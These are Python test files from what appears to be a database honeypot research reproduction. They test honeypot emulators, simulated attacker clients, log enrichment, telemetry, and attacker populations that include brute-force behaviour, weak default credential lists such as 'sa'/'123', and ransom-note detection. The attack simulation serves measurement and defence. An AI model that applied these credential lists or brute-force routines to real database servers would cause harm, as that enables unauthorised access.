        (row,) = campaign_summary(profiles, labels)
        assert isinstance(row, CampaignRow)
        assert row.ip_count == 2
        assert row.cluster_count == 2

    def test_single_credential_not_bruteforce(self):
        p = profile("m", "postgresql", [0])
        p.login_attempts = 10
        p.credentials = {("postgres", "postgres")}
        assert "Brute-force attacks" not in tag_profile(p)

    def test_ransom_template_detection(self):
        p = profile("x", "mongodb", [0])
        p.raws = ["All your data is backed up. pay."]
        assert ransom_templates(p) == {"template-1"}
        p.raws = ["Your DB has been back up."]
        assert ransom_templates(p) == {"template-2"}
        p.raws = ["nothing here"]
        assert ransom_templates(p) == set()


class TestTemporalFromSqlite:
    def make_db(self, tmp_path):
        space = AddressSpace()
        space.register_as(64500, "X", "Y", ASType.HOSTING)
        ips = [str(space.allocate(64500)) for _ in range(3)]
        geoip = GeoIPDatabase.from_address_space(space)
        base = 1711065600.0

        def event(ip, offset):
            return LogEvent(timestamp=base + offset, honeypot_id="hp",
                            honeypot_type="qeeqbox", dbms="mysql",
                            interaction="low", config="multi", src_ip=ip,
                            src_port=1, event_type="connect")

        events = [event(ips[0], 0), event(ips[1], 60),
                  event(ips[0], 3700), event(ips[2], 7300)]
        return convert_to_sqlite(events, tmp_path / "t.sqlite", geoip)

    def test_hourly_series(self, tmp_path):
        from repro.core.temporal import hourly_series

        series = hourly_series(self.make_db(tmp_path))
        assert series.clients_per_hour == (2, 1, 1)
        assert series.cumulative_new == (2, 2, 3)
        assert series.total_unique == 3
        assert series.mean_clients_per_hour() == pytest.approx(4 / 3)

    def test_per_dbms_split(self, tmp_path):
        from repro.core.temporal import per_dbms_series

        series = per_dbms_series(self.make_db(tmp_path))
        assert set(series) == {"mysql"}

    def test_empty_slice(self, tmp_path):
        from repro.core.temporal import hourly_series

        series = hourly_series(self.make_db(tmp_path), dbms="redis")
        assert series.hours == 0
        assert series.total_unique == 0
        assert series.mean_clients_per_hour() == 0.0
