"""Unit tests for the attacker-side protocol clients (error paths and
conveniences not covered by the TCP integration tests)."""

import pytest

from repro.clients import (ElasticClient, MSSQLClient, MongoClient,
                           MySQLClient, PostgresClient, RedisClient,
                           WireError)
from repro.honeypots import (Elasticpot, LowInteractionMSSQL,
                             LowInteractionMySQL, MongoHoneypot,
                             RedisHoneypot, StickyElephant)
from repro.honeypots.base import MemoryWire


@pytest.fixture
def wire_for(session_context):
    def _factory(honeypot):
        return MemoryWire(honeypot, session_context)

    return _factory


class TestMySQLClient:
    def test_login_failure_carries_error(self, wire_for):
        client = MySQLClient(wire_for(LowInteractionMySQL("hp")))
        client.connect()
        result = client.login("root", "bad")
        assert not result.success
        assert result.error_code == 1045
        assert "Access denied" in result.error_message

    def test_server_version_exposed(self, wire_for):
        client = MySQLClient(wire_for(LowInteractionMySQL("hp")))
        assert client.connect() == "8.0.36"
        assert client.server_version == "8.0.36"

    def test_no_handshake_raises(self):
        class SilentWire:
            def connect(self):
                return b""

            def send(self, data):
                return b""

            def close(self):
                pass

        client = MySQLClient(SilentWire())
        with pytest.raises(WireError):
            client.connect()


class TestPostgresClient:
    def test_login_success_and_failure(self, wire_for):
        client = PostgresClient(wire_for(StickyElephant("hp")))
        client.connect()
        assert client.login("postgres", "anything")

        denied = PostgresClient(wire_for(
            StickyElephant("hp2", config="login_disabled")))
        denied.connect()
        assert not denied.login("postgres", "anything")

    def test_query_error_surfaces(self, wire_for):
        client = PostgresClient(wire_for(StickyElephant("hp")))
        client.connect()
        client.login("postgres", "x")
        result = client.query("???")
        assert not result.ok
        assert result.error["C"] == "42601"

    def test_query_rows_decoded(self, wire_for):
        client = PostgresClient(wire_for(StickyElephant("hp")))
        client.connect()
        client.login("postgres", "x")
        result = client.query("SELECT version();")
        assert result.columns == ["version"]
        assert result.command_tag == "SELECT 1"
        assert b"PostgreSQL" in result.rows[0][0]


class TestRedisClient:
    def test_error_replies_returned_not_raised(self, wire_for):
        client = RedisClient(wire_for(RedisHoneypot("hp")))
        client.connect()
        from repro.protocols.resp import Error

        reply = client.command("NOSUCHCMD")
        assert isinstance(reply, Error)

    def test_inline_commands(self, wire_for):
        client = RedisClient(wire_for(RedisHoneypot("hp")))
        client.connect()
        reply = client.send_inline("PING")
        assert reply.value == "PONG"

    def test_send_raw_multiple_replies(self, wire_for):
        from repro.protocols import resp

        client = RedisClient(wire_for(RedisHoneypot("hp")))
        client.connect()
        replies = client.send_raw(resp.encode_command("PING")
                                  + resp.encode_command("DBSIZE"))
        assert len(replies) == 2


class TestMSSQLClient:
    def test_login_failure_error_number(self, wire_for):
        client = MSSQLClient(wire_for(LowInteractionMSSQL("hp")))
        client.connect()
        result = client.login("sa", "nope")
        assert not result.success
        assert result.error_number == 18456


class TestElasticClient:
    def test_get_json_decodes(self, wire_for):
        client = ElasticClient(wire_for(Elasticpot("hp")))
        client.connect()
        banner = client.get_json("/")
        assert banner["cluster_name"] == "elasticsearch"

    def test_non_json_body_raises(self, wire_for):
        client = ElasticClient(wire_for(Elasticpot("hp")))
        client.connect()
        with pytest.raises(WireError):
            client.get_json("/_cat/indices")  # plain-text endpoint

    def test_search_with_source_quotes_payload(self, wire_for):
        client = ElasticClient(wire_for(Elasticpot("hp")))
        client.connect()
        response = client.search_with_source('{"query":{}}')
        assert response.status == 200

    def test_dict_body_serialized(self, wire_for):
        client = ElasticClient(wire_for(Elasticpot("hp")))
        client.connect()
        response = client.request("POST", "/idx/_doc",
                                  body={"field": 1})
        assert response.status == 201


class TestMongoClient:
    def test_convenience_wrappers(self, wire_for):
        client = MongoClient(wire_for(MongoHoneypot("hp")))
        client.connect()
        assert client.list_databases() == ["customers"]
        assert client.list_collections("customers") == ["records"]
        docs = client.find_all("customers", "records", batch=2)
        assert len(docs) == 2

    def test_request_ids_increment(self, wire_for):
        client = MongoClient(wire_for(MongoHoneypot("hp")))
        client.connect()
        client.command("admin", {"ping": 1})
        client.command("admin", {"ping": 1})
        assert client._next_request_id == 3
