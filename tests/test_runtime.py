"""Tests for the run-scoped ambient context (telemetry + faults) and
the merge/absorb machinery sharded replay workers rely on."""

import threading

from repro import obs
from repro.obs.metrics import MetricsRegistry
from repro.resilience import faults
from repro.runtime import RunContext, worker_context


class TestMetricsMerge:
    def test_counters_add_and_gauges_take_max(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.inc("events", 3, dbms="redis")
        b.inc("events", 4, dbms="redis")
        b.inc("events", 5, dbms="mysql")
        a.set_gauge("open", 2)
        b.set_gauge("open", 7)
        a.merge(b)
        assert a.counter_value("events", dbms="redis") == 7
        assert a.counter_value("events", dbms="mysql") == 5
        assert a.gauge_value("open") == 7

    def test_histograms_combine_statistics(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        for value in (1.0, 2.0):
            a.observe("latency", value)
        for value in (0.5, 8.0):
            b.observe("latency", value)
        a.merge(b.snapshot())
        histogram = a.histogram("latency")
        assert histogram.count == 4
        assert histogram.total == 11.5
        assert histogram.min == 0.5
        assert histogram.max == 8.0

    def test_merge_accepts_snapshot_dict(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        b.inc("n", 2)
        a.merge(b.snapshot())
        assert a.counter_value("n") == 2


class TestFaultPlanSharding:
    def plan(self, **spec_kwargs):
        return faults.FaultPlan(
            [faults.FaultSpec("visit.crash", **spec_kwargs)],
            seed=11, name="test")

    def test_payload_round_trip_resets_counters(self):
        plan = self.plan(probability=1.0)
        assert plan.should_fire("visit.crash", key="a:0")
        clone = faults.from_payload(plan.payload())
        assert clone.name == plan.name and clone.seed == plan.seed
        assert clone.fires_total() == 0
        assert clone.sites == plan.sites

    def test_keyed_decisions_are_order_independent(self):
        keys = [f"10.0.0.{i}:{j}" for i in range(40) for j in range(3)]
        first = self.plan(probability=0.3)
        forward = [key for key in keys
                   if first.should_fire("visit.crash", key=key)]
        second = self.plan(probability=0.3)
        backward = [key for key in reversed(keys)
                    if second.should_fire("visit.crash", key=key)]
        assert sorted(forward) == sorted(backward)
        assert 0 < len(forward) < len(keys)

    def test_absorb_sums_worker_counters(self):
        parent = self.plan(probability=1.0)
        workers = [parent.clone() for _ in range(3)]
        for index, worker in enumerate(workers):
            for j in range(index + 1):
                worker.should_fire("visit.crash", key=f"w{index}:{j}")
        for worker in workers:
            parent.absorb(worker.snapshot())
        stats = parent.snapshot()["visit.crash"]
        assert stats["evaluations"] == 1 + 2 + 3
        assert stats["fires"] == 1 + 2 + 3
        assert parent.fires_total() == 6

    def test_null_plan_never_absorbs_state(self):
        faults.NULL_PLAN.absorb({"visit.crash": {"evaluations": 5,
                                                 "fires": 5}})
        assert faults.NULL_PLAN.fires_total() == 0


class TestThreadLocalInstall:
    def test_local_telemetry_shadows_global_on_one_thread(self):
        shared = obs.Telemetry(enabled=True)
        local = obs.Telemetry(enabled=True)
        seen = {}

        def worker():
            with obs.install_local(local):
                obs.current().metrics.inc("n")
                seen["inside"] = obs.current()
            seen["after"] = obs.current()

        with obs.install(shared):
            thread = threading.Thread(target=worker)
            thread.start()
            thread.join()
            assert obs.current() is shared
        assert seen["inside"] is local
        assert seen["after"] is shared
        assert local.metrics.counter_value("n") == 1
        assert shared.metrics.counter_value("n") == 0

    def test_local_fault_plan_shadows_global(self):
        shared = faults.FaultPlan(
            [faults.FaultSpec("visit.crash", probability=1.0)], seed=1)
        local = shared.clone()
        with faults.install(shared):
            with faults.install_local(local):
                assert faults.current() is local
                faults.current().should_fire("visit.crash", key="x")
            assert faults.current() is shared
        assert local.fires_total() == 1
        assert shared.fires_total() == 0


class TestRunContext:
    def test_activate_installs_both_halves(self):
        context = RunContext(
            telemetry=obs.Telemetry(enabled=True),
            fault_plan=faults.FaultPlan(
                [faults.FaultSpec("visit.crash", probability=1.0)],
                seed=2))
        with context.activate():
            assert obs.current() is context.telemetry
            assert faults.current() is context.fault_plan
        assert obs.current() is obs.NULL_TELEMETRY
        assert faults.current() is faults.NULL_PLAN

    def test_defaults_are_null_implementations(self):
        context = RunContext()
        assert context.telemetry is obs.NULL_TELEMETRY
        assert context.fault_plan is faults.NULL_PLAN

    def test_report_and_absorb_round_trip(self):
        worker = worker_context(True, {"specs": {
            "visit.crash": faults.FaultSpec("visit.crash",
                                            probability=1.0)},
            "seed": 3, "name": "chaos"})
        with worker.activate_local():
            obs.current().metrics.inc("replay.visits", 7)
            faults.current().should_fire("visit.crash", key="a:0")
        report = worker.report()
        assert report["metrics"]["counters"]
        assert report["faults"]["visit.crash"]["fires"] == 1

        driver = RunContext(
            telemetry=obs.Telemetry(enabled=True),
            fault_plan=faults.FaultPlan(
                [faults.FaultSpec("visit.crash", probability=1.0)],
                seed=3, name="chaos"))
        driver.absorb(report)
        assert driver.telemetry.metrics.counter_value(
            "replay.visits") == 7
        assert driver.fault_plan.fires("visit.crash") == 1

    def test_worker_context_disables_tracing(self):
        worker = worker_context(True, None)
        assert worker.telemetry.enabled
        assert isinstance(worker.telemetry.tracer, obs.NullTracer)
        assert worker.fault_plan is faults.NULL_PLAN

    def test_disabled_worker_reports_no_metrics(self):
        worker = worker_context(False, None)
        assert worker.report()["metrics"] is None
