"""Tests for the log store, conversion and enrichment pipeline."""

import pytest

from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.convert import (convert_to_sqlite, count_events,
                                    open_database, read_events)
from repro.pipeline.enrich import enrich_events
from repro.pipeline.institutional import InstitutionalScannerList
from repro.pipeline.logstore import (MAX_RAW, LogEvent, LogStore,
                                     truncate_raw)


def make_event(**overrides) -> LogEvent:
    base = dict(timestamp=1711065600.0, honeypot_id="hp-1",
                honeypot_type="qeeqbox", dbms="mysql", interaction="low",
                config="multi", src_ip="20.0.0.1", src_port=5555,
                event_type="connect")
    base.update(overrides)
    return LogEvent(**base)


@pytest.fixture
def world():
    space = AddressSpace()
    space.register_as(64500, "HOSTCO", "Germany", ASType.HOSTING)
    space.register_as(64501, "SECSCAN", "United States", ASType.SECURITY)
    ips = {"attacker": str(space.allocate(64500)),
           "scanner": str(space.allocate(64501))}
    geoip = GeoIPDatabase.from_address_space(space)
    scanners = InstitutionalScannerList()
    scanners.add_asn(64501)
    return geoip, scanners, ips


class TestLogStore:
    def test_json_roundtrip(self):
        event = make_event(event_type="login_attempt", username="sa",
                           password="123", action="login")
        assert LogEvent.from_json(event.to_json()) == event

    def test_unicode_survives_json(self):
        event = make_event(raw="päylöad ☃")
        assert LogEvent.from_json(event.to_json()).raw == "päylöad ☃"

    def test_consolidated_write_read(self, tmp_path):
        store = LogStore()
        store.append(make_event())
        store.append(make_event(dbms="redis", interaction="medium",
                                config="default"))
        store.append(make_event())
        paths = store.write_consolidated(tmp_path)
        assert [p.name for p in paths] == [
            "low-mysql-multi.jsonl", "medium-redis-default.jsonl"]
        loaded = LogStore.read_consolidated(tmp_path)
        assert len(loaded) == 3

    def test_truncate_raw(self):
        assert truncate_raw(None) is None
        assert truncate_raw(b"\xff\xfe") == "��"
        assert len(truncate_raw("x" * 99999)) == 2048

    def test_jsonl_roundtrip_preserves_every_field(self, tmp_path):
        events = [
            make_event(event_type="login_attempt", action="login",
                       username="sa", password="pä55 ☃", raw="SELECT 1;",
                       timestamp=1711065601.25),
            make_event(event_type="query", action="KEYS", username=None,
                       password=None, raw=None, src_port=1),
        ]
        store = LogStore()
        store.extend(events)
        store.write_consolidated(tmp_path)
        loaded = LogStore.read_consolidated(tmp_path)
        assert loaded.events() == events

    def test_truncate_raw_str_passthrough_below_limit(self):
        assert truncate_raw("short") == "short"

    def test_truncate_raw_exactly_at_limit_untouched(self):
        payload = "y" * MAX_RAW
        assert truncate_raw(payload) is payload
        assert len(truncate_raw("y" * (MAX_RAW + 1))) == MAX_RAW

    def test_truncate_raw_bytes_exactly_at_limit(self):
        assert truncate_raw(b"z" * MAX_RAW) == "z" * MAX_RAW

    def test_truncate_raw_non_utf8_bytes(self):
        # Invalid UTF-8 decodes via replacement, then clamps.
        decoded = truncate_raw(b"\x80\x81ok\xff")
        assert decoded == "��ok�"
        long_bad = b"\xff" * (MAX_RAW + 10)
        assert truncate_raw(long_bad) == "�" * MAX_RAW

    def test_read_consolidated_skips_malformed_lines(self, tmp_path):
        from repro import obs

        store = LogStore()
        store.append(make_event())
        store.append(make_event(src_port=5556))
        [path] = store.write_consolidated(tmp_path)
        lines = path.read_text(encoding="utf-8").splitlines()
        lines.insert(1, "{not json at all")
        lines.insert(2, '{"valid_json": "but not a LogEvent"}')
        lines.append("")  # blank lines are fine, not malformed
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")

        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            loaded = LogStore.read_consolidated(tmp_path)
        # Both good events survive; both bad lines are counted, with
        # enough context to find them again.
        assert len(loaded) == 2
        assert len(loaded.skipped_lines) == 2
        assert {s["line"] for s in loaded.skipped_lines} == {2, 3}
        assert all(s["path"].endswith(".jsonl")
                   for s in loaded.skipped_lines)
        assert telemetry.metrics.counter_value(
            "logstore.malformed_lines") == 2

    def test_drain_from_keeps_total_appended(self):
        store = LogStore()
        store.extend([make_event(src_port=p) for p in range(4)])
        drained = store.drain_from(2)
        assert len(drained) == 2
        assert len(store) == 2
        assert store.total_appended == 4

    def test_truncation_is_counted_when_telemetry_installed(self):
        from repro import obs

        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            truncate_raw("a" * MAX_RAW)        # not clipped
            truncate_raw("b" * (MAX_RAW + 7))  # clipped by 7
        assert telemetry.metrics.counter_value(
            "logstore.raw_truncated") == 1
        assert telemetry.metrics.counter_value(
            "logstore.raw_truncated_bytes") == 7

    def test_truncation_bytes_measured_pre_decode(self):
        from repro import obs

        # A bytes payload is measured on the wire: 2-byte UTF-8
        # sequences double the dropped-byte count relative to chars.
        payload = ("é" * (MAX_RAW + 5)).encode("utf-8")
        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            kept = truncate_raw(payload)
        assert kept == "é" * MAX_RAW
        assert telemetry.metrics.counter_value(
            "logstore.raw_truncated") == 1
        assert telemetry.metrics.counter_value(
            "logstore.raw_truncated_bytes") == len(payload) - len(
                kept.encode("utf-8"))

    def test_truncation_str_input_counts_utf8_bytes(self):
        from repro import obs

        payload = "é" * (MAX_RAW + 3)
        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            kept = truncate_raw(payload)
        assert kept == "é" * MAX_RAW
        # str payloads fall back to their UTF-8 size: 2 bytes per "é".
        assert telemetry.metrics.counter_value(
            "logstore.raw_truncated_bytes") == 2 * 3


class TestEnrichment:
    def test_metadata_attached(self, world):
        geoip, scanners, ips = world
        events = [make_event(src_ip=ips["attacker"]),
                  make_event(src_ip=ips["scanner"])]
        enriched = enrich_events(events, geoip, scanners)
        assert enriched[0].country == "Germany"
        assert enriched[0].asn == 64500
        assert enriched[0].as_type == "Hosting"
        assert not enriched[0].institutional
        assert enriched[1].institutional

    def test_unknown_ip_enriched_as_unknown(self, world):
        geoip, scanners, _ips = world
        (enriched,) = enrich_events([make_event(src_ip="203.0.113.99")],
                                    geoip, scanners)
        assert enriched.country == "Unknown"
        assert enriched.asn is None

    def test_enrichment_preserves_event_order(self, world):
        geoip, scanners, ips = world
        events = [make_event(src_ip=ips["attacker"], src_port=p)
                  for p in range(10)]
        enriched = enrich_events(events, geoip, scanners)
        assert [e.event.src_port for e in enriched] == list(range(10))


class TestInstitutionalList:
    def test_asn_membership(self):
        scanners = InstitutionalScannerList()
        scanners.add_asn(398324)
        assert scanners.is_institutional("1.2.3.4", 398324)
        assert not scanners.is_institutional("1.2.3.4", 14618)

    def test_ip_membership(self):
        scanners = InstitutionalScannerList()
        scanners.add_ip("20.0.0.5")
        assert scanners.is_institutional("20.0.0.5", None)
        assert not scanners.is_institutional("20.0.0.6", None)

    def test_len(self):
        scanners = InstitutionalScannerList()
        scanners.add_asn(1)
        scanners.add_ip("1.1.1.1")
        assert len(scanners) == 2


class TestSqliteConversion:
    def test_convert_and_read_back(self, tmp_path, world):
        geoip, scanners, ips = world
        events = [
            make_event(src_ip=ips["attacker"]),
            make_event(src_ip=ips["attacker"],
                       event_type="login_attempt", username="sa",
                       password="123", action="login"),
            make_event(src_ip=ips["scanner"]),
        ]
        db = convert_to_sqlite(events, tmp_path / "out.sqlite", geoip,
                               scanners)
        assert count_events(db) == 3
        rows = list(read_events(db))
        assert rows[0]["country"] == "Germany"
        assert rows[1]["username"] == "sa"
        assert rows[2]["institutional"] == 1

    def test_rows_ordered_by_timestamp(self, tmp_path, world):
        geoip, scanners, ips = world
        events = [make_event(src_ip=ips["attacker"], timestamp=t)
                  for t in (30.0, 10.0, 20.0)]
        db = convert_to_sqlite(events, tmp_path / "o.sqlite", geoip,
                               scanners)
        timestamps = [row["timestamp"] for row in read_events(db)]
        assert timestamps == sorted(timestamps)

    def test_existing_database_replaced(self, tmp_path, world):
        geoip, scanners, ips = world
        path = tmp_path / "db.sqlite"
        convert_to_sqlite([make_event(src_ip=ips["attacker"])], path,
                          geoip, scanners)
        convert_to_sqlite([], path, geoip, scanners)
        assert count_events(path) == 0

    def test_database_opens_read_only(self, tmp_path, world):
        import sqlite3

        geoip, scanners, ips = world
        db = convert_to_sqlite([make_event(src_ip=ips["attacker"])],
                               tmp_path / "ro.sqlite", geoip, scanners)
        connection = open_database(db)
        with pytest.raises(sqlite3.OperationalError):
            connection.execute("DELETE FROM events")
        connection.close()
