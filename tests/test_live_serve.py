"""Tests for the live HTTP surface (``/metrics`` + ``/healthz``), the
supervisor health snapshot behind it, and shard-trace stitching into
one Chrome timeline."""

import asyncio
import json
import urllib.error
import urllib.request

import pytest

from repro.honeypots import RedisHoneypot
from repro.honeypots.tcp import TcpHoneypotServer, serve_honeypots
from repro.netsim.clock import SimClock
from repro.obs.live import LiveOpsServer
from repro.obs.metrics import MetricsRegistry
from repro.obs.tracing import NullTracer, Tracer
from repro.pipeline.logstore import LogStore
from repro.resilience import ServerSupervisor


def _get(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


@pytest.fixture
def registry():
    registry = MetricsRegistry()
    registry.inc("events", 3, dbms="redis")
    return registry


class TestLiveOpsServer:
    def test_metrics_endpoint_serves_prometheus_text(self, registry):
        server = LiveOpsServer(registry.snapshot,
                               lambda: {"status": "ok"})
        port = server.start()
        try:
            status, headers, body = _get(
                f"http://127.0.0.1:{port}/metrics")
        finally:
            server.close()
        assert status == 200
        assert headers["Content-Type"] == ("text/plain; version=0.0.4; "
                                           "charset=utf-8")
        assert (b'repro_events_total{dbms="redis"} 3'
                in body.splitlines())

    def test_healthz_ok_is_200(self, registry):
        server = LiveOpsServer(registry.snapshot,
                               lambda: {"status": "ok", "detail": 1})
        port = server.start()
        try:
            status, headers, body = _get(
                f"http://127.0.0.1:{port}/healthz")
        finally:
            server.close()
        assert status == 200
        assert headers["Content-Type"] == "application/json"
        assert json.loads(body) == {"status": "ok", "detail": 1}

    def test_healthz_degraded_is_503(self, registry):
        server = LiveOpsServer(registry.snapshot,
                               lambda: {"status": "degraded"})
        port = server.start()
        try:
            status, _, body = _get(f"http://127.0.0.1:{port}/healthz")
        finally:
            server.close()
        assert status == 503
        assert json.loads(body)["status"] == "degraded"

    def test_unknown_path_is_404(self, registry):
        server = LiveOpsServer(registry.snapshot,
                               lambda: {"status": "ok"})
        port = server.start()
        try:
            status, _, _ = _get(f"http://127.0.0.1:{port}/nope")
        finally:
            server.close()
        assert status == 404

    def test_source_exception_is_500_not_crash(self, registry):
        def broken():
            raise RuntimeError("snapshot failed")

        server = LiveOpsServer(broken, lambda: {"status": "ok"})
        port = server.start()
        try:
            status, _, body = _get(f"http://127.0.0.1:{port}/metrics")
            # The listener survives the bad request.
            again, _, _ = _get(f"http://127.0.0.1:{port}/healthz")
        finally:
            server.close()
        assert status == 500
        assert b"snapshot failed" in body
        assert again == 200

    def test_request_counter(self, registry):
        server = LiveOpsServer(registry.snapshot,
                               lambda: {"status": "ok"})
        port = server.start()
        try:
            _get(f"http://127.0.0.1:{port}/metrics")
            _get(f"http://127.0.0.1:{port}/healthz")
        finally:
            server.close()
        assert server.requests == 2


class _FakeServer:
    """Duck-typed TcpHoneypotServer for health-shape tests."""

    def __init__(self, honeypot_id, serving=True):
        self.honeypot = RedisHoneypot(honeypot_id)
        self.host = "127.0.0.1"
        self.port = 1234
        self.is_serving = serving


class TestSupervisorHealth:
    def test_all_serving_is_ok(self):
        supervisor = ServerSupervisor([_FakeServer("hp-a"),
                                       _FakeServer("hp-b")])
        health = supervisor.health()
        assert health["status"] == "ok"
        assert [l["honeypot_id"] for l in health["listeners"]] \
            == ["hp-a", "hp-b"]
        assert all(l["serving"] for l in health["listeners"])
        assert health["restarts_total"] == 0

    def test_dead_listener_degrades(self):
        supervisor = ServerSupervisor([_FakeServer("hp-a"),
                                       _FakeServer("hp-b",
                                                   serving=False)])
        health = supervisor.health()
        assert health["status"] == "degraded"
        down = [l for l in health["listeners"] if not l["serving"]]
        assert [l["honeypot_id"] for l in down] == ["hp-b"]

    def test_abandoned_listener_degrades(self):
        supervisor = ServerSupervisor([_FakeServer("hp-a")])
        supervisor.abandoned.add(0)
        supervisor.restarts[0] = 6
        health = supervisor.health()
        assert health["status"] == "degraded"
        assert health["abandoned_total"] == 1
        assert health["listeners"][0]["restarts"] == 6

    def test_live_farm_end_to_end(self):
        async def scenario():
            clock = SimClock()
            store = LogStore()
            servers = await serve_honeypots(
                [RedisHoneypot("hp-live")], clock, store.append)
            supervisor = ServerSupervisor(servers)
            try:
                health = supervisor.health()
                assert health["status"] == "ok"
                assert health["listeners"][0]["port"] == servers[0].port
                await servers[0].stop()
                assert supervisor.health()["status"] == "degraded"
            finally:
                for server in servers:
                    await server.stop()

        asyncio.run(scenario())


class TestTraceStitching:
    def _shard_spans(self, count):
        tracer = Tracer(clock=iter(range(100)).__next__)
        for index in range(count):
            with tracer.span("replay.visit", seq=index):
                pass
        return tracer.spans

    def test_absorb_remaps_ids_and_sets_pid(self):
        driver = Tracer(clock=iter(range(100)).__next__)
        with driver.span("driver.work"):
            pass
        spans = self._shard_spans(2)
        absorbed = driver.absorb(spans, pid=3, name="shard 1")
        assert absorbed == 2
        shard_spans = [s for s in driver.spans if s.get("pid") == 3]
        driver_ids = {s["id"] for s in driver.spans
                      if "pid" not in s}
        assert len(shard_spans) == 2
        assert not {s["id"] for s in shard_spans} & driver_ids
        assert driver.process_names[3] == "shard 1"

    def test_absorb_remaps_parent_links_within_batch(self):
        shard = Tracer(clock=iter(range(100)).__next__)
        with shard.span("outer"):
            with shard.span("inner"):
                pass
        driver = Tracer()
        driver.absorb(shard.spans, pid=2)
        inner = [s for s in driver.spans if s["name"] == "inner"][0]
        outer = [s for s in driver.spans if s["name"] == "outer"][0]
        assert inner["parent"] == outer["id"]

    def test_chrome_export_separates_process_lanes(self, tmp_path):
        driver = Tracer(clock=iter(range(100)).__next__)
        driver.process_names[1] = "driver"
        with driver.span("driver.work"):
            pass
        driver.absorb(self._shard_spans(1), pid=2, name="shard 0")
        path = driver.export_chrome(tmp_path / "trace.json")
        document = json.loads(path.read_text())
        events = document["traceEvents"]
        metadata = [e for e in events if e["ph"] == "M"]
        assert [(e["pid"], e["args"]["name"]) for e in metadata] \
            == [(1, "driver"), (2, "shard 0")]
        pids = {e["pid"] for e in events if e["ph"] == "X"}
        assert pids == {1, 2}

    def test_chrome_export_without_process_names_has_no_metadata(
            self, tmp_path):
        tracer = Tracer(clock=iter(range(100)).__next__)
        with tracer.span("x"):
            pass
        path = tracer.export_chrome(tmp_path / "trace.json")
        events = json.loads(path.read_text())["traceEvents"]
        assert all(e["ph"] == "X" for e in events)
        assert all(e["pid"] == 1 for e in events)

    def test_null_tracer_absorb_is_noop(self):
        tracer = NullTracer()
        assert tracer.absorb([{"id": 1}], pid=2) == 0
        assert tracer.spans == []
