"""Tests for actor behaviors, credentials, toolkits and the population
builder."""

import random

import pytest

from repro.agents import scenario, toolkits
from repro.agents.base import (Actor, CompositeBehavior, Visit,
                               pick_active_days)
from repro.agents.credentials import (TOP_MSSQL_CREDENTIALS,
                                      CredentialSampler, mssql_sampler)
from repro.agents.lowint import (BruteForceBehavior, LowScanBehavior,
                                 MisconfiguredClientBehavior)
from repro.agents.population import build_world
from repro.agents.scouts import ScoutBehavior
from repro.deployment.plan import build_plan
from repro.netsim.clock import EXPERIMENT_DAYS


@pytest.fixture(scope="module")
def plan():
    return build_plan()


class TestCredentials:
    def test_head_contains_table12_pairs(self):
        assert TOP_MSSQL_CREDENTIALS[0] == ("sa", "123")
        assert ("hbv7", "") in TOP_MSSQL_CREDENTIALS

    def test_sampler_is_sa_heavy(self):
        sampler = mssql_sampler()
        rng = random.Random(1)
        samples = sampler.sample_many(rng, 2000)
        sa_fraction = sum(1 for user, _pw in samples
                          if user == "sa") / len(samples)
        assert sa_fraction > 0.4

    def test_more_unique_passwords_than_usernames(self):
        sampler = mssql_sampler()
        rng = random.Random(2)
        samples = sampler.sample_many(rng, 5000)
        usernames = {user for user, _pw in samples}
        passwords = {pw for _user, pw in samples}
        assert len(passwords) > len(usernames) * 3

    def test_salted_samplers_differ_in_tail(self):
        a = CredentialSampler(head_weight=0.0, tail_salt="a")
        b = CredentialSampler(head_weight=0.0, tail_salt="b")
        sa = set(a.sample_many(random.Random(3), 200))
        sb = set(b.sample_many(random.Random(3), 200))
        assert sa != sb


class TestToolkits:
    def test_pools_are_distinct_and_deterministic(self):
        assert len(set(toolkits.ELASTIC_TOOLKITS)) == len(
            toolkits.ELASTIC_TOOLKITS)
        assert toolkits.ELASTIC_TOOLKITS == toolkits._subsets(
            toolkits.ELASTIC_ENDPOINT_POOL, 56, min_size=1, max_size=7,
            seed="elastic", always_first=True)

    def test_elastic_toolkits_always_probe_banner(self):
        assert all("/" in kit for kit in toolkits.ELASTIC_TOOLKITS)

    def test_brute_variants_have_multiple_credentials(self):
        for variant in toolkits.PSQL_BRUTE_CREDENTIAL_VARIANTS:
            assert len(variant) >= 3

    def test_fifteen_brute_variants(self):
        assert len(toolkits.PSQL_BRUTE_CREDENTIAL_VARIANTS) == 15


class TestBehaviors:
    def test_pick_active_days_within_window(self):
        rng = random.Random(1)
        days = pick_active_days(rng, EXPERIMENT_DAYS, 5)
        assert len(days) == 5
        assert days == sorted(days)
        assert all(0 <= d < EXPERIMENT_DAYS for d in days)

    def test_pick_active_days_clamps(self):
        rng = random.Random(1)
        assert len(pick_active_days(rng, 20, 99)) == 20
        assert len(pick_active_days(rng, 20, 0)) == 1

    def test_low_scan_visit_times_ordered_by_day(self, plan):
        rng = random.Random(2)
        visits = LowScanBehavior(active_days=3,
                                 probes_per_day=2).visits(plan, rng)
        assert 6 <= len(visits) <= 9
        assert all(isinstance(v, Visit) for v in visits)

    def test_low_scan_scope_multi_only(self, plan):
        rng = random.Random(3)
        visits = LowScanBehavior(scope="multi", active_days=2,
                                 probes_per_day=4).visits(plan, rng)
        assert all("/multi/" in v.target_key for v in visits)

    def test_low_scan_scope_both_touches_single(self, plan):
        rng = random.Random(4)
        visits = LowScanBehavior(scope="both", active_days=2,
                                 probes_per_day=3).visits(plan, rng)
        assert any("/single/" in v.target_key for v in visits)
        assert any("/multi/" in v.target_key for v in visits)

    def test_bruteforce_visits_spread_attempts(self, plan):
        rng = random.Random(5)
        behavior = BruteForceBehavior(dbms="mssql", total_attempts=100,
                                      active_days=4)
        visits = behavior.visits(plan, rng)
        assert 1 <= len(visits) <= 4
        assert all("mssql" in v.target_key for v in visits)

    def test_bruteforce_rejects_redis(self, plan):
        with pytest.raises(ValueError):
            BruteForceBehavior(dbms="redis").visits(plan,
                                                    random.Random(1))

